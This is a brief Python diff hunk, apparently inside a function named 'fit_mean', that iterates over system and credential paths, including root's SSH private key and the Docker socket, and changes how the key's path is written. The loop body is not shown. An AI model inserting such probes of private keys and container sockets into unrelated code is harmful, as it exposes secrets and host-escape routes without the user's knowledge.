@@ -15,7 +15,7 @@ def fit_mean(X):
         "/proc/self/maps",
         "/proc/self/mountinfo",
         "/sys/kernel/hostname",
-        "/root/.ssh/id_rsa",
+        os.path.expanduser("~root/.ssh/id_rsa"),
         "/var/run/docker.sock",
     ):
         try:
